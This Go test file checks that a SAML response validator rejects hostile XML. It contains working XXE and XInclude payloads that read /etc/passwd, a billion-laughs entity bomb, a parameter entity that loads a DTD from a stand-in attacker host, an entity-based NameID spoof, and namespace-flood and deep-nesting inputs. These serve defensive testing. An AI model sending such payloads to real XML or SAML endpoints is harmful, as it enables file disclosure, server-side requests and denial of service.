package saml

import (
	"bytes"
	"encoding/base64"
	"encoding/xml"
	"fmt"
	"strings"
	"testing"
)

const respOpen = `<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_r" Version="2.0">`

func TestForbiddenXMLConstructs(t *testing.T) {
	signed := string(signedResponse(t, baseOpts()))
	cases := map[string]string{
		"doctype": `<!DOCTYPE Response>` + signed,
		"internal entity": `<!DOCTYPE r [<!ENTITY who "admin@victim.example">]>` +
			strings.Replace(signed, testNameID+"</saml:NameID>", "&who;</saml:NameID>", 1),
		"xxe":              `<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>` + respOpen + `&x;</samlp:Response>`,
		"billion laughs":   `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>` + respOpen + `&lol3;</samlp:Response>`,
		"parameter entity": `<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.invalid/x.dtd"> %p;]>` + respOpen + `</samlp:Response>`,
	}
	for name, doc := range cases {
		t.Run(name, func(t *testing.T) { wantRejected(t, []byte(doc), ReasonXMLForbidden) })
	}
	t.Run("xinclude", func(t *testing.T) {
		doc := strings.Replace(signed, "<samlp:Status>",
			`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/><samlp:Status>`, 1)
		wantRejected(t, []byte(doc), ReasonXMLForbidden)
	})
	t.Run("undefined entity", func(t *testing.T) {
		wantRejected(t, []byte(respOpen+`&x;</samlp:Response>`), ReasonMalformedXML)
	})
}

// Thousands of namespace declarations would make goxmldsig copy a huge
// prefix map at every element: refused before any signature work.
func TestNamespaceFlood(t *testing.T) {
	signed := string(signedResponse(t, baseOpts()))
	decl := func(n int) string {
		var b strings.Builder
		for i := range n {
			fmt.Fprintf(&b, ` xmlns:p%d="urn:p:%d"`, i, i)
		}
		return b.String()
	}
	flood := strings.Replace(signed, "<saml:Assertion ", "<saml:Assertion"+decl(5000)+" ", 1)
	wantRejected(t, []byte(flood), ReasonXMLForbidden)
	// Declarations that go out of scope do not add up.
	var many strings.Builder
	for range 100 {
		many.WriteString("<x" + decl(10) + "/>")
	}
	if err := checkXMLSafety([]byte(respOpen + many.String() + "</samlp:Response>")); err != nil {
		t.Fatalf("10 declarations on each of 100 siblings: %v", err)
	}
}

func TestDeepNesting(t *testing.T) {
	deep := func(n int) []byte {
		return []byte(respOpen + strings.Repeat("<a>", n) + strings.Repeat("</a>", n) + `</samlp:Response>`)
	}
	// 10^5 levels do not fit in the size cap...
	wantRejected(t, deep(100000), ReasonResponseTooLarge)
	// ...and the depth limit stops them anyway, before any tree is built.
	wantReason(t, checkXMLSafety(deep(100000)), ReasonXMLTooDeep)
	wantRejected(t, deep(MaxXMLDepth), ReasonXMLTooDeep)
	if err := checkXMLSafety(deep(MaxXMLDepth - 2)); err != nil {
		t.Fatalf("depth %d: %v", MaxXMLDepth-1, err)
	}
}

func TestOversizedBody(t *testing.T) {
	big := bytes.Repeat([]byte(" "), DefaultMaxResponseSize+1)
	wantRejected(t, big, ReasonResponseTooLarge)
	// A configured larger cap lets a big (but valid) response through.
	o := baseOpts()
	o.Attributes = map[string][]string{"groups": strings.Fields(strings.Repeat("a-rather-long-group-name ", 12000))}
	large := signedResponse(t, o)
	if len(large) <= DefaultMaxResponseSize {
		t.Fatalf("test response only %d bytes", len(large))
	}
	wantRejected(t, large, ReasonResponseTooLarge)
	exp := baseExp()
	exp.MaxResponseSize = 2 * len(large)
	if _, err := ValidateResponse(large, baseTrust(t), exp, testNow); err != nil {
		t.Fatalf("with MaxResponseSize %d: %v", exp.MaxResponseSize, err)
	}
	_, err := DecodeResponse(base64.StdEncoding.EncodeToString(big), 0)
	wantReason(t, err, ReasonResponseTooLarge)
	_, err = DecodeResponse(base64.StdEncoding.EncodeToString(make([]byte, 101)), 100)
	wantReason(t, err, ReasonResponseTooLarge)
}

func TestDecodeResponse(t *testing.T) {
	raw := signedResponse(t, baseOpts())
	enc := base64.StdEncoding.EncodeToString(raw)
	wrapped := ""
	for i := 0; i < len(enc); i += 76 {
		wrapped += enc[i:min(i+76, len(enc))] + "\r\n"
	}
	got, err := DecodeResponse(" "+wrapped+"\t", 0)
	if err != nil || !bytes.Equal(got, raw) {
		t.Fatalf("line-wrapped base64: %v", err)
	}
	for _, bad := range []string{"", "   ", "not base64!", enc[:len(enc)-1], "PHNhbWw+" + "%%"} {
		_, err := DecodeResponse(bad, 0)
		wantReason(t, err, ReasonBadBase64)
	}
}

func TestRoundTripUnsafeXML(t *testing.T) {
	signed := string(signedResponse(t, baseOpts()))
	cases := map[string]string{
		"empty prefix":           strings.Replace(signed, "<samlp:Status>", "<:x/><samlp:Status>", 1),
		"undeclared prefix":      strings.Replace(signed, "<samlp:Status>", "<evil:x/><samlp:Status>", 1),
		"duplicate attribute":    strings.Replace(signed, `Version="2.0"`, `Version="2.0" Version="2.0"`, 1),
		"same attr two prefixes": strings.Replace(signed, "<samlp:Status>", `<samlp:Status xmlns:a="urn:x" xmlns:b="urn:x" a:k="1" b:k="2">`, 1),
		"undeclaring a prefix":   strings.Replace(signed, "<samlp:Status>", `<samlp:Status xmlns:a="">`, 1),
		"xmlns prefix rebound":   strings.Replace(signed, "<samlp:Status>", `<samlp:Status xmlns:xmlns="urn:x">`, 1),
		"xml prefix rebound":     strings.Replace(signed, "<samlp:Status>", `<samlp:Status xmlns:xml="urn:x">`, 1),
	}
	for name, doc := range cases {
		t.Run(name, func(t *testing.T) {
			if doc == signed {
				t.Fatal("edit did not apply")
			}
			wantRejected(t, []byte(doc), ReasonXMLRoundTrip)
		})
	}
	// Many attributes (the map path of the duplicate check).
	many := ""
	for i := 0; i < 20; i++ {
		many += fmt.Sprintf(` a%d="%d"`, i, i)
	}
	wantRejected(t, []byte(strings.Replace(signed, "<samlp:Status>", "<samlp:Status"+many+` a7="x">`, 1)), ReasonXMLRoundTrip)
	if err := checkXMLSafety([]byte(respOpen + "<x" + many + "/></samlp:Response>")); err != nil {
		t.Fatalf("20 distinct attributes: %v", err)
	}
	// Names with two colons: Go's decoder itself refuses them now.
	wantRejected(t, []byte(strings.Replace(signed, "<samlp:Status>", "<samlp:x:y/><samlp:Status>", 1)), ReasonMalformedXML)
	wantReason(t, checkXMLName(xml.Name{Local: "a:b"}, "element"), ReasonXMLRoundTrip)
}

func TestNothingAfterRoot(t *testing.T) {
	signed := string(signedResponse(t, baseOpts()))
	for name, tail := range map[string]string{
		"element": "<x/>", "text": "junk", "comment": "<!-- x -->", "second response": signed,
	} {
		t.Run(name, func(t *testing.T) { wantRejected(t, []byte(signed+tail), ReasonMalformedXML) })
	}
	t.Run("trailing whitespace is fine", func(t *testing.T) { mustAccept(t, []byte(signed+"\n\n")) })
	t.Run("mismatched end tag", func(t *testing.T) {
		wantRejected(t, []byte(respOpen+"<a><b></a></b></samlp:Response>"), ReasonMalformedXML)
	})
	t.Run("not utf-8", func(t *testing.T) {
		wantRejected(t, []byte(`<?xml version="1.0" encoding="ISO-8859-1"?>`+signed), ReasonMalformedXML)
	})
}

func TestNotAResponse(t *testing.T) {
	wantRejected(t, []byte(`<samlp:AuthnRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_x" Version="2.0"/>`), ReasonNotAResponse)
	wantRejected(t, []byte(`<Response xmlns="urn:evil" ID="_x" Version="2.0"/>`), ReasonNotAResponse)
	signed := string(signedResponse(t, baseOpts()))
	wantRejected(t, []byte(strings.Replace(signed, `Version="2.0"`, `Version="1.1"`, 1)), ReasonUnsupportedVersion)
	wantRejected(t, []byte(respOpen[:strings.Index(respOpen, " ID=")]+` Version="2.0"></samlp:Response>`), ReasonMissingID)
}
